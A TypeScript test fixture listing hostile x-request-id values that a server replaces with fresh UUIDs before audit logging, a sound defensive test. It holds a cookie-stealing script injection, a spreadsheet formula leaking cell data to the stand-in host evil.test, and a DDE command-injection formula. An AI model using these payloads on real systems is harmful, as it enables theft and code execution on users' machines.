/**
 * `x-request-id` values a client may send that must never reach the audit trail as given (issue 13, finding 3):
 * each is replaced by a fresh UUID. `overHttp` are the ones an HTTP server accepts in a header (a control
 * character other than tab is refused by Node's parser before any route runs).
 */
export const HOSTILE_REQUEST_IDS = {
  overHttp: [
    ['6,000 characters', 'x'.repeat(6000)],
    ['markup', '</td><script>alert(document.cookie)</script>'],
    ['a spreadsheet formula', '=HYPERLINK("https://evil.test/?leak="&A1,"Open report")'],
    ['a formula after a separator', "req-1;=cmd|' /C calc'!A0"],
    ['tabs', 'req\tid\twith\ttabs'],
  ],
  inProcess: [
    ['SOH', 'req\u0001id'],
    ['an ANSI escape', 'req\u001b[31mred'],
    ['DEL', 'req\u007fid'],
    ['non-ASCII', 'réq-ïd'],
    ['129 characters', 'r'.repeat(129)],
  ],
} as const satisfies Record<string, ReadonlyArray<readonly [string, string]>>;

/** A fresh id as `auditContextOf` makes one (`crypto.randomUUID()`). */
export const FRESH_REQUEST_ID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
